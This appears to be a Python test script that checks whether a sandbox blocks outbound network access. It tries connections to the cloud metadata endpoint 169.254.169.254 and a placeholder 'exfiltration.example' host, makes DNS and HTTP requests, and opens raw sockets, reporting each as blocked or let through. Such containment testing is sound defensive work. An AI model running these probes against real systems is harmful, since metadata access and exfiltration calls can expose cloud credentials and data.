"""Calls home, by every way there is: 2 s each at most."""
import errno
import os
import socket
import urllib.request

for address in (("192.0.2.1", 80), ("127.0.0.1", 22), ("127.0.0.1", 26501), ("169.254.169.254", 80)):
    with socket.socket() as connection:
        connection.settimeout(2)
        print(address[0], errno.errorcode.get(connection.connect_ex(address), "connected"))
for address in ("https://exfiltration.example/secret", "http://169.254.169.254/latest/meta-data/"):
    try:
        urllib.request.urlopen(address, timeout=2)
        print("it was let through")
    except OSError as error:
        print("by proxy:", error)
try:
    socket.getaddrinfo("exfiltration.example", 443)
    print("it was let through")
except OSError as error:
    print("name:", error)
for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):
    try:
        socket.socket(family, kind)
        print("it was let through")
    except OSError as error:
        print("raw:", errno.errorcode[error.errno])
